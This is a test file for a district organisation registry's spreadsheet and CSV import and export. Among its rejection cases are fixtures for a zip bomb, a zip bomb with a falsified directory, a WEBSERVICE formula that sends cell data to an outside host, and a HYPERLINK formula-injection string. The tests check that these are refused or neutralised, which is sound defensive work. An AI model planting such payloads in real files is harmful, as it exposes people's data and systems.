import { unzipSync, zipSync } from 'fflate'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { creditCodes, organisationHead, organisationRows, personHead, personRows, teamHead, teamRows } from '../../infra/local/demo/register.ts'
import { observeCapacity } from '../../functions/context.ts'
import { organisationBook, loadBook, prepareSwitch } from '../../shared/registry/registry.store.ts'
import { ok } from '../support/contest.ts'
import { anAgency, aTeam, joined } from '../support/organisations.ts'
import { type Somebody, startTestPlatform, type TestPlatform } from '../support/platform.ts'
import { postFile } from '../support/proposals.ts'
import { csvOf, type Rows, workbook, xlsxOf } from '../support/registry.ts'

let platform: TestPlatform
let administrator: Somebody
beforeAll(async () => {
  platform = await startTestPlatform()
  administrator = await platform.person('管理员 01', { administrator: '330411' })
})
afterAll(async () => { await platform.close() })

const at = '/districts/330411'
const read = (register: string, bytes: Buffer, name = '名单.xlsx') => administrator.api('POST', `${at}/imports`, { register, name, content: bytes.toString('base64') })
const preview = async (id: string, query = '') => ok(await administrator.api('GET', `${at}/imports/${id}${query}`)).plan
const apply = async (id: string) => administrator.api('POST', `${at}/imports/${id}/application`, { revision: (await preview(id))?.revision ?? 0 })
const list = async (register: string, query = '') => ok(await administrator.api('GET', `${at}/registry/${register}${query}`))
const all = async (register: string) => (await list(register, '?size=200')).items.map(({ cells }: { cells: Record<string, string> }) => cells)
async function imported(register: string, bytes: Buffer): Promise<string> {
  const { id } = ok(await read(register, bytes))
  ok(await apply(id))
  return id
}
async function uploaded(register: string, bytes: Buffer) {
  const announced = ok(await administrator.api('POST', `${at}/imports/uploads`, { register, name: '名单.xlsx', bytes: bytes.length }))
  await postFile(announced, '名单.xlsx', bytes)
  return administrator.api('POST', `${at}/imports/uploads/${announced.file}`)
}
const nextCode = creditCodes(4000)
const registered = (name: string, code: string, more: Partial<Record<string, string>> = {}) => organisationHead.map((column) => ({ 名称: name, 登记或备案: '登记', 统一社会信用代码: code, 街道: '示例街道甲', ...more })[column] ?? '')
const filed = (name: string, more: Partial<Record<string, string>> = {}) => organisationHead.map((column) => ({ 名称: name, 登记或备案: '备案', 备案单位: '示例街道乙', 挂靠单位: '示例社工服务中心', 街道: '示例街道乙', ...more })[column] ?? '')

describe('a file that is no list', () => {
  const good = registered('不会进来的组织', '52330411MJ9900020C')
  const bomb = () => Buffer.from(zipSync({ '[Content_Types].xml': new Uint8Array(), 'xl/workbook.xml': new Uint8Array(30 * 1024 * 1024) }))
  /** Its directory says that it is small. */
  function liar(): Buffer {
    const bytes = bomb()
    for (let place = bytes.indexOf(Buffer.from([0x50, 0x4b, 1, 2])); place !== -1; place = bytes.indexOf(Buffer.from([0x50, 0x4b, 1, 2]), place + 4)) if (bytes.readUInt32LE(place + 24) > 0) bytes.writeUInt32LE(1000, place + 24)
    return bytes
  }
  const broken = () => Buffer.concat([csvOf([organisationHead, good, good]), Buffer.from('\r\n'), Buffer.from([0xff, 0xff, 0x41]), Buffer.from('\r\n好\r\n')])
  const bad: [name: string, make: () => Buffer | Promise<Buffer>, code: string, says: string | RegExp][] = [
    ['empty', () => Buffer.from('\uFEFF'), 'NO_ROWS', /一行也没有/],
    ['only headings', () => csvOf([organisationHead]), 'NO_ROWS', /表头下面一行也没有/],
    ['wrong columns', () => csvOf([['单位', '地址'], ['a', 'b']]), 'COLUMN_UNKNOWN', /单位/],
    ['a missing column', () => csvOf([['名称', '登记或备案'], ['a', '登记']]), 'COLUMN_MISSING', /街道/],
    ['bytes in no encoding, by line', broken, 'ENCODING', /第 4 行/],
    ['UTF-16', () => Buffer.from('\uFEFF名称,街道', 'utf16le'), 'ENCODING', /UTF-16/],
    ['quotes that do not pair up', () => Buffer.from('名称,登记或备案,街道\r\n"甲,登记,乙\r\n丙,登记,丁\r\n'), 'CSV_MALFORMED', /引号/],
    ['an old .xls', () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), 'FILE_OLD', /\.xls/],
    ['a picture', () => Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13]), 'NOT_A_LIST', /不是表格/],
    ['another zip', () => Buffer.from(zipSync({ 'a.txt': new Uint8Array(10) })), 'NOT_A_LIST', /\.xlsx/],
    ['half a workbook', async () => (await xlsxOf([organisationHead, good])).subarray(0, 3000), 'FILE_BROKEN', /打不开/],
    ['a zip bomb', bomb, 'ZIP_TOO_LARGE', /解开以后/],
    ['a zip bomb that lies', liar, 'ZIP_TOO_LARGE', /解开以后/],
    ['a formula that calls out', () => workbook((sheet) => { sheet.addRows([organisationHead, good]); sheet.getCell('B2').value = { formula: 'WEBSERVICE("http://example.cn/"&A2)', result: 1 } }), 'CELLS_FORMULA', /B2/],
    ['merged cells', () => workbook((sheet) => { sheet.addRows([organisationHead, good, good]); sheet.mergeCells('A2:A3'); sheet.mergeCells('C2:D3') }), 'CELLS_MERGED', /A2:A3、C2:D3/],
    ['a cell in error', () => workbook((sheet) => { sheet.addRows([organisationHead, good]); sheet.getCell('C2').value = { error: '#REF!' } }), 'CELLS_ERROR', /C2/],
    ['links to other files', async () => Buffer.from(zipSync({ ...unzipSync(new Uint8Array(await xlsxOf([organisationHead, good]))), 'xl/externalLinks/externalLink1.xml': Buffer.from('<externalLink/>') })), 'LINKS_OUTSIDE', /外部链接/],
    ['headings below a title', () => workbook((sheet) => { sheet.getRow(3).values = organisationHead; sheet.getRow(4).values = good }), 'HEAD_NOT_FIRST', /第 3 行/],
  ]

  test.each(bad)('%s is told so, and changes nothing', async (_name, make, code, says) => {
    const before = await list('organisations')
    const answer = await read('organisations', await make())
    expect(answer.status).toBe(422)
    const mistake = answer.body.errors.find((one: { code: string }) => one.code === code)
    expect(mistake?.detail, JSON.stringify(answer.body)).toMatch(says)
    expect(await list('organisations')).toEqual(before)
  })

  test('50,000 rows are told in a moment, as CSV and as a workbook', { timeout: 60_000 }, async () => {
    const rows: Rows = [teamHead, ...teamRows(50_000)]
    // As a spreadsheet would write it; the library that writes ours takes its time for so many.
    const parts = unzipSync(new Uint8Array(await xlsxOf(rows.slice(0, 3))))
    const sheet = Buffer.from(parts['xl/worksheets/sheet1.xml'] ?? []).toString()
    const row = /<row r="2".*?<\/row>/s.exec(sheet)?.[0] ?? ''
    const long = Array.from({ length: 50_000 }, (_, n) => row.replaceAll(/r="([A-Z]*)2"/g, (_, column: string) => `r="${column}${n + 2}"`)).join('')
    const workbook = zipSync({ ...parts, 'xl/worksheets/sheet1.xml': Buffer.from(sheet.replace(/<row r="2".*<\/row>/s, long)) })
    for (const bytes of [csvOf(rows), Buffer.from(workbook)]) {
      const from = performance.now()
      const { status, body } = await uploaded('teams', bytes)
      expect({ status, code: body.errors?.[0]?.code }).toEqual({ status: 422, code: 'TOO_MANY_ROWS' })
      expect(performance.now() - from).toBeLessThan(10_000)
    }
  })

  test('one that is too large is told before it is sent', async () => {
    expect((await administrator.api('POST', `${at}/imports/uploads`, { register: 'teams', name: '名单.xlsx', bytes: 21 * 1024 * 1024 })).body.errors).toMatchObject([{ code: 'FILE_TOO_LARGE', detail: expect.stringContaining('20 MB') }])
  })
})

describe('rows that are wrong', () => {
  const rows: [row: string[], column: string, code: string][] = [
    [registered('甲', '52330411MJ990002OC'), 'creditCode', 'CREDIT_CODE_CHARACTER'],
    [registered('乙', '52330411MJ9900020D'), 'creditCode', 'CREDIT_CODE_CHECK'],
    [registered('丙', '5.2330411E+17'), 'creditCode', 'NUMBER_AS_FIGURE'],
    [registered('丁', ''), 'creditCode', 'REQUIRED'],
    [registered('', '52330411MJ9900020C'), 'name', 'REQUIRED'],
    [registered('戊', nextCode(), { 评估等级: '6A' }), 'grade', 'NOT_A_CHOICE'],
    [registered('己', nextCode(), { 评估等级: '3A', 等级开始日期: '2024-02-30', 等级到期日期: '2028-12-31' }), 'gradeFrom', 'DATE_MALFORMED'],
    [registered('庚', nextCode(), { 评估等级: '3A', 等级开始日期: '2024-01-01', 等级到期日期: '2023-12-31' }), 'gradeTo', 'ENDS_BEFORE'],
    [registered('辛', nextCode(), { 类别: '没有的类' }), 'class', 'CLASS_UNKNOWN'],
    [filed('壬', { 挂靠单位: '' }), 'hostName', 'REQUIRED'],
    [filed('癸', { 统一社会信用代码: '52330411MJ9900020C' }), 'creditCode', 'NO_CODE_OF_ITS_OWN'],
  ]

  test('are each listed with every problem, first; nothing can be applied', async () => {
    const twice = registered('同一个', '51330411MJ9900012L')
    const { id } = ok(await read('organisations', csvOf([organisationHead, ...rows.map(([row]) => row), twice, registered('又一个', '51330411mj9900012l'), registered('好的', nextCode())]), '名单.csv'))
    const plan = await preview(id)
    expect(plan.counts).toEqual({ wrong: rows.length + 1, new: 2, changed: 0, same: 0 })
    for (const [n, [, column, code]] of rows.entries()) expect(plan.rows.find(({ line }: { line: number }) => line === n + 2)?.faults, `row ${n + 2}`).toMatchObject([{ column, code }])
    expect(plan.rows.find(({ line }: { line: number }) => line === rows.length + 3).faults).toMatchObject([{ code: 'ROW_TWICE', zh: expect.stringContaining(`第 ${rows.length + 2} 行`) }])
    expect(plan.rows.slice(0, rows.length + 1).every(({ state }: { state: string }) => state === 'wrong')).toBe(true)
    const before = await all('organisations')
    expect((await apply(id)).body.code).toBe('IMPORT_NOT_READY')
    expect(await all('organisations')).toEqual(before)
  })

  test('a registered kind that does not agree with the code is named; so is a code that is of another register', async () => {
    const head = ['名称', '登记或备案', '统一社会信用代码', '登记类型', '街道']
    const { id } = ok(await read('organisations', csvOf([head, ['子', '登记', '52330411MJ9900020C', '社会团体', '示例街道甲'], ['丑', '登记', nextCode(), '民办非企业单位', '示例街道甲']]), '名单.csv'))
    expect((await preview(id)).rows.map(({ faults }: { faults: { code: string }[] }) => faults.map(({ code }) => code))).toEqual([['CREDIT_CODE_KIND'], []])
    const code = nextCode()
    await imported('organisations', csvOf([organisationHead, registered('一家社会组织', code)]))
    const teams = ok(await read('teams', csvOf([['队伍名称', '登记或备案', '统一社会信用代码', '街道'], ['一支队伍', '登记', code, '示例街道甲']]), '队伍.csv'))
    expect((await preview(teams.id)).rows).toMatchObject([{ state: 'wrong', faults: [{ code: 'OTHER_REGISTER', zh: expect.stringContaining('一家社会组织') }] }])
  })
})

describe('a good file', () => {
  test('is read alike in UTF-8 with and without its mark, in GB18030, and as a workbook with days as days', async () => {
    const row = registered('编码相同的组织', nextCode(), { 评估等级: '4A', 等级开始日期: '2025-01-01', 等级到期日期: '2029-12-31', 联系人: '张“三”' })
    const text = csvOf([organisationHead, row])
    const gb = gb18030(text.toString())
    expect(gb.equals(text)).toBe(false)
    const days = row.map((cell) => (/^\d{4}-\d\d-\d\d$/.test(cell) ? new Date(`${cell}T00:00:00Z`) : cell))
    const found = []
    for (const bytes of [text, Buffer.concat([Buffer.from('\uFEFF'), text]), gb, await xlsxOf([organisationHead, row]), await xlsxOf([organisationHead, days])]) {
      const plan = await preview(ok(await read('organisations', bytes)).id)
      found.push(plan.rows.map(({ name, state, changes }: { name: string; state: string; changes: unknown }) => ({ name, state, changes })))
    }
    expect(found[0]).toMatchObject([{ name: '编码相同的组织', state: 'new' }])
    for (const other of found) expect(other).toEqual(found[0])
  })

  test('is applied as a whole, seen at once, on the trail; the same file again changes nothing', async () => {
    const bytes = await xlsxOf([personHead, ...personRows(30)])
    const { id } = ok(await read('people', bytes))
    expect((await list('people')).total).toBe(0)
    expect(ok(await apply(id))).toMatchObject({ state: 'applied', added: 30, changed: 0 })
    expect((await list('people')).total).toBe(30)
    expect((await list('people', `?q=${encodeURIComponent('示例人员 7')}`)).items[0].cells).toMatchObject({ level: '社会工作师', certificate: 'SW6', registeredUntil: '2027-12-31' })
    const again = ok(await read('people', bytes))
    expect((await preview(again.id)).counts).toEqual({ wrong: 0, new: 0, changed: 0, same: 30 })
    const { revision } = await preview(again.id)
    ok(await apply(again.id))
    const third = ok(await read('people', bytes))
    expect((await preview(third.id)).revision).toBe(revision)
    expect((await apply(again.id)).body.code).toBe('WRONG_STATE')
    const { entries } = ok(await administrator.api('GET', '/trail'))
    expect(entries.filter(({ about }: { about: { id: string } }) => about.id === id)).toMatchObject([{ action: 'registry.import', sentence: { zh: expect.stringContaining('新增 30') } }])
  })

  test('shows what would change, old to new; where the register has moved since, it is looked at again', async () => {
    const code = nextCode()
    await imported('organisations', csvOf([organisationHead, registered('旧名称', code, { 联系人: '甲' })]))
    const { id } = ok(await read('organisations', csvOf([organisationHead, registered('新名称', code, { 联系人: '甲', 街道: '示例镇丁' })])))
    const plan = await preview(id, '?state=changed')
    expect(plan.rows).toMatchObject([{ state: 'changed', changes: [{ column: '名称', from: '旧名称', to: '新名称' }, { column: '街道', from: '示例街道甲', to: '示例镇丁' }] }])
    await imported('organisations', csvOf([organisationHead, registered('别的', nextCode())]))
    expect((await administrator.api('POST', `${at}/imports/${id}/application`, { revision: plan.revision })).body.code).toBe('STALE')
    ok(await apply(id))
    expect(await all('organisations')).toEqual(expect.arrayContaining([expect.objectContaining({ name: '新名称', creditCode: code, street: '示例镇丁' })]))
  })

  test('a crash on the way changes nothing, and it can be asked again', async () => {
    const { id } = ok(await read('organisations', csvOf([organisationHead, ...organisationRows(20, 20, 5000).map((row) => [`崩溃 ${row[0]}`, ...row.slice(1)])])))
    const before = await list('organisations')
    // All that is written before the switch: the parts of it, under names that nobody reads.
    const { head, entries } = await loadBook(platform.table, '330411', organisationBook)
    const [some] = entries
    if (some === undefined) throw new Error('an empty registry')
    await prepareSwitch(platform.table, organisationBook, head, entries, { put: [{ ...some, name: '半途的名称' }], remove: entries.slice(1).map((entry) => entry.id) })
    expect(await list('organisations')).toEqual(before)
    ok(await apply(id))
    expect((await list('organisations')).all).toBe(before.all + 40)
  })
})

describe('taking an import back', () => {
  test('the district counts its teams by the register: imported, imported again, taken back', async () => {
    const teams = async () => ok(await administrator.api('GET', '/figures')).teams
    const before = await teams()
    const id = await imported('teams', csvOf([teamHead, ...teamRows(90).slice(60)]))
    expect([await teams(), (await list('teams')).all]).toEqual([before + 30, before + 30])
    await imported('teams', csvOf([teamHead, ...teamRows(90).slice(60)]))
    expect(await teams()).toBe(before + 30)
    ok(await administrator.api('POST', `${at}/imports/${id}/undoing`))
    expect(await teams()).toBe(before)
  })

  test('leaves the registry as it was', async () => {
    const code = nextCode()
    await imported('organisations', csvOf([organisationHead, registered('撤销前', code)]))
    const before = await all('organisations')
    const id = await imported('organisations', csvOf([organisationHead, registered('撤销后', code), filed('新来的', { 备案编号: 'X-1' })]))
    expect(await all('organisations')).not.toEqual(before)
    await imported('organisations', csvOf([organisationHead, registered('与此无关', nextCode())]))
    expect(ok(await administrator.api('POST', `${at}/imports/${id}/undoing`))).toMatchObject({ state: 'undone', undoUntil: null })
    expect((await all('organisations')).filter(({ name }: { name: string }) => name !== '与此无关')).toEqual(before)
    expect((await administrator.api('POST', `${at}/imports/${id}/undoing`)).body.code).toBe('WRONG_STATE')
  })

  test('is refused as a whole where an entry was changed since, which is named; and after thirty days', async () => {
    const code = nextCode()
    const id = await imported('organisations', csvOf([organisationHead, registered('改过的组织', code), registered('没改的组织', nextCode())]))
    const [{ id: entry }] = (await list('organisations', `?q=${code}`)).items
    const { revision } = ok(await administrator.api('GET', `${at}/registry/organisations/entries/${entry}`))
    ok(await administrator.api('PUT', `${at}/registry/organisations/entries/${entry}`, { cells: { contactName: '新联系人' }, reason: '换了联系人', revision }))
    const { body } = await administrator.api('POST', `${at}/imports/${id}/undoing`)
    expect(body).toMatchObject({ code: 'WRONG_STATE', errors: [{ code: 'CHANGED_SINCE', detail: expect.stringContaining('改过的组织') }] })
    expect(body.errors[0].detail).not.toContain('没改的组织')
    expect((await list('organisations', `?q=${encodeURIComponent('没改的组织')}`)).total).toBe(1)
    const late = await imported('organisations', csvOf([organisationHead, registered('放久了', nextCode())]))
    platform.clock.forward({ days: 31 })
    expect((await administrator.api('POST', `${at}/imports/${late}/undoing`)).body.code).toBe('WRONG_STATE')
  })
})

describe('export', () => {
  test.each(['xlsx', 'csv'])('as %s, read in again, changes nothing; nothing in it runs', async (format) => {
    await imported('teams', csvOf([teamHead, ['=HYPERLINK("http://example.cn")', '示例镇丁', `=${format}`, '+示例单位', '示例镇丁', '9', '3', '@队长', '13800000000'], ...teamRows(40)]))
    const file = ok(await administrator.api('GET', `${at}/registry/teams/export?format=${format}`))
    const bytes = Buffer.from(file.content, 'base64')
    if (format === 'csv') expect(bytes.toString()).toContain(`"'=HYPERLINK(""http://example.cn"")"`)
    const { plan } = { plan: await preview(ok(await read('teams', bytes, file.name)).id) }
    expect(plan.counts).toMatchObject({ wrong: 0, new: 0, changed: 0, same: (await list('teams')).all })
  })

  test('keeps the filter, and codes are text', async () => {
    const { content } = ok(await administrator.api('GET', `${at}/registry/organisations/export?format=csv&q=${encodeURIComponent('没改的组织')}`))
    expect(Buffer.from(content, 'base64').toString().trim().split('\r\n')).toHaveLength(2)
  })
})

describe('one entry', () => {
  test('is added, changed and removed by hand, each with its reason on the trail', async () => {
    const cells = { name: '手工登记队', filedWith: '示例镇丁', hostName: '示例社工服务中心', street: '示例镇丁', size: '12', core: '3' }
    expect((await administrator.api('POST', `${at}/registry/teams`, { cells: { ...cells, name: '' }, reason: '新登记' })).body.errors).toMatchObject([{ path: 'cells.name', code: 'REQUIRED' }])
    expect((await administrator.api('POST', `${at}/registry/teams`, { cells, reason: '' })).body.errors).toMatchObject([{ path: 'reason', code: 'REQUIRED' }])
    const { id } = ok(await administrator.api('POST', `${at}/registry/teams`, { cells, reason: '新登记' }))
    expect((await administrator.api('POST', `${at}/registry/teams`, { cells, reason: '再登记' })).body.errors).toMatchObject([{ path: 'cells.name', code: 'ENTRY_EXISTS' }])
    const { revision } = ok(await administrator.api('GET', `${at}/registry/teams/entries/${id}`))
    ok(await administrator.api('PUT', `${at}/registry/teams/entries/${id}`, { cells: { size: '15' }, reason: '来了新人', revision }))
    expect((await administrator.api('PUT', `${at}/registry/teams/entries/${id}`, { cells: { size: '16' }, reason: '又来了', revision })).body.code).toBe('STALE')
    ok(await administrator.api('POST', `${at}/registry/teams/entries/${id}/removal`, { reason: '已解散' }))
    expect((await administrator.api('GET', `${at}/registry/teams/entries/${id}`)).status).toBe(404)
    const { entries } = ok(await administrator.api('GET', '/trail'))
    expect(entries.filter(({ about }: { about: { id: string } }) => about.id === id).map(({ reason }: { reason: string }) => reason)).toEqual(['已解散', '来了新人', '新登记'])
  })

  test('keeps its grades and listings as periods', async () => {
    const code = nextCode()
    await imported('organisations', csvOf([organisationHead, registered('有历史的组织', code, { 评估等级: '3A', 等级开始日期: '2018-01-01', 等级到期日期: '2022-12-31' })]))
    await imported('organisations', csvOf([organisationHead, registered('有历史的组织', code, { 评估等级: '5A', 等级开始日期: '2023-01-01', 等级到期日期: '2099-12-31' })]))
    const [{ id }] = (await list('organisations', `?q=${code}`)).items
    const seen = ok(await administrator.api('GET', `${at}/registry/organisations/entries/${id}`))
    expect(seen).toMatchObject({ standing: { grade: '5A', listings: [] }, grades: [{ grade: '5A' }, { grade: '3A', from: '2018-01-01', to: '2022-12-31' }] })
    ok(await administrator.api('PUT', `${at}/registry/organisations/entries/${id}`, { cells: { abnormalFrom: '2020-01-01', abnormalTo: '' }, reason: '未报年报', revision: seen.revision }))
    expect((await list('organisations', '?listed=abnormal')).items).toMatchObject([{ id }])
  })

  test('classes are named by the administrator, and rows may use the names', async () => {
    const { majors, minors } = ok(await administrator.api('GET', `${at}/classes`))
    expect([majors.length, minors.length]).toEqual([4, 17])
    expect([...majors, ...minors].every(({ name }: { name: string }) => name === '')).toBe(true)
    const named = minors.map((minor: { id: string }) => (minor.id === 'S2' ? { ...minor, name: '示例小类' } : minor))
    ok(await administrator.api('PUT', `${at}/classes`, { majors, minors: named, reason: '取名' }))
    await imported('organisations', csvOf([organisationHead, registered('有类别的组织', nextCode(), { 类别: '示例小类' }), registered('也有类别', nextCode(), { 类别: '小类2' })]))
    expect((await list('organisations', '?class=S2')).items.map(({ cells }: { cells: { class: string } }) => cells.class)).toEqual(expect.arrayContaining(['示例小类', '示例小类']))
    expect((await administrator.api('PUT', `${at}/classes`, { majors, minors: minors.slice(1), reason: '少一个' })).body.errors).toMatchObject([{ path: 'minors' }])
  })
})

describe('joining', () => {
  test('an organisation that the registry knows joins as that entry; one it does not know is entered with its admission', async () => {
    const code = nextCode()
    await imported('organisations', csvOf([organisationHead, registered('先登记后入驻', code)]))
    const [{ id: known }] = (await list('organisations', `?q=${code}`)).items
    const { id } = await joined(platform, { ...anAgency(code), name: '先登记后入驻' })
    expect(id).toBe(known)
    expect((await list('organisations', `?q=${code}`)).items).toMatchObject([{ id, joinedAt: null }])
    ok(await administrator.api('POST', `/organisations/${id}/admission`, { decision: 'admit' }))
    expect((await list('organisations', `?q=${code}&joined=yes`)).items).toMatchObject([{ id, cells: { street: '示例街道甲' } }])
    const other = nextCode()
    const stranger = await joined(platform, { ...anAgency(other), name: '没有登记过的' })
    ok(await administrator.api('POST', `/organisations/${stranger.id}/admission`, { decision: 'admit' }))
    expect((await list('organisations', `?q=${other}`)).items).toMatchObject([{ id: stranger.id, cells: { name: '没有登记过的', kind: '专业社工机构' } }])
  })

  test('an administrator admits from the registry and hands the link to the first member; what is missing is named', async () => {
    const code = nextCode()
    await imported('organisations', csvOf([organisationHead, registered('由登记册入驻', code, { 联系人: '甲', 联系电话: '0573-8270 0000' })]))
    const [{ id }] = (await list('organisations', `?q=${code}`)).items
    const admit = () => administrator.api('POST', `${at}/registry/organisations/entries/${id}/admission`, { name: '第一位成员', email: null })
    expect((await admit()).body.errors).toMatchObject([{ code: 'ENTRY_INCOMPLETE', detail: expect.stringContaining('邮箱') }])
    const { revision } = ok(await administrator.api('GET', `${at}/registry/organisations/entries/${id}`))
    ok(await administrator.api('PUT', `${at}/registry/organisations/entries/${id}`, { cells: { contactEmail: 'first@example.cn' }, reason: '补邮箱', revision }))
    const { link } = ok(await admit())
    expect(ok(await administrator.api('GET', `/organisations/${id}`))).toMatchObject({ state: 'admitted', askedBy: null, creditCode: code })
    const first = await platform.person('第一位成员')
    ok(await first.api('POST', `/invitations/${link.split('/').at(-1)}/acceptance`, {}))
    expect(ok(await first.api('GET', `/organisations/${id}/members`)).items).toHaveLength(1)
    expect((await admit()).body.code).toBe('WRONG_STATE')
    ok(await administrator.api('POST', `/organisations/${id}/admission`, { decision: 'suspend', reasons: '示例' }))
  })

  test('a filed group needs a host who accepts; its members, the host’s and the administrators see the answer', async () => {
    const code = nextCode()
    const host = await joined(platform, { ...anAgency(code), name: '挂靠单位甲' })
    ok(await administrator.api('POST', `/organisations/${host.id}/admission`, { decision: 'admit' }))
    const group = await joined(platform, { ...aTeam(), name: '想挂靠的队', host: { name: '挂靠单位甲', creditCode: code } })
    const home = async () => (await host.member.page('/home')).html
    expect(await home()).toContain('想挂靠的队想挂靠在贵单位')
    expect((await administrator.api('POST', `/organisations/${group.id}/admission`, { decision: 'admit' })).body.errors).toMatchObject([{ path: 'reasons', code: 'HOST_NOT_ACCEPTED' }])
    const answer = (by: Somebody, body: object, of = host.id) => by.api('POST', `/organisations/${of}/hosted/${group.id}`, body)
    expect((await answer(host.member, { answer: 'declined' })).body.errors).toMatchObject([{ path: 'reason', code: 'REQUIRED' }])
    expect((await answer(group.member, { answer: 'accepted' })).status).toBe(403)
    expect((await answer(group.member, { answer: 'accepted' }, group.id)).status).toBe(404)
    ok(await answer(host.member, { answer: 'declined', reason: '还不了解' }))
    expect((await group.member.page('/organisation')).html).toContain('还不了解')
    expect((await group.member.page('/home')).html).toContain('挂靠单位没有接受')
    ok(await answer(host.member, { answer: 'accepted' }))
    expect(await home()).not.toContain('想挂靠的队想挂靠在贵单位')
    expect((await administrator.page(`/organisations/${group.id}`)).html).toContain('挂靠单位已接受')
    const teams = async () => ok(await administrator.api('GET', '/figures')).teams
    const before = await teams()
    expect(ok(await administrator.api('POST', `/organisations/${group.id}/admission`, { decision: 'admit' })).state).toBe('admitted')
    expect([await teams(), (await list('teams')).all]).toEqual([before + 1, before + 1])
  })
})

test('the district’s real size: a page costs one read once the parts are at hand', { timeout: 120_000 }, async () => {
  for (const [register, rows] of [['organisations', [organisationHead, ...organisationRows(395, 2000, 6000)]], ['teams', [teamHead, ...teamRows(1161)]]] as const) {
    const { id, rows: count } = ok(await uploaded(register, await xlsxOf(rows)))
    expect(count).toBe(rows.length - 1)
    expect((await preview(id)).counts.wrong).toBe(0)
    ok(await apply(id))
  }
  await list('organisations')
  let units = 0
  observeCapacity((used) => { units += used })
  const first = await list('organisations', '?sort=-grade&page=3')
  observeCapacity(undefined)
  expect(first.total).toBeGreaterThan(2390)
  // Who asks, the head, the classes.
  expect(units).toBeLessThan(8)
})

/** The test platform has no encoder: pairs of bytes are found by decoding them all. */
function gb18030(text: string): Buffer {
  const decoder = new TextDecoder('gb18030')
  const pairs = new Map<string, number[]>()
  for (let high = 0x81; high <= 0xfe; high += 1) for (let low = 0x40; low <= 0xfe; low += 1) if (low !== 0x7f) pairs.set(decoder.decode(new Uint8Array([high, low])), [high, low])
  return Buffer.from([...text].flatMap((sign) => (sign.charCodeAt(0) < 0x80 ? [sign.charCodeAt(0)] : (pairs.get(sign) ?? []))))
}
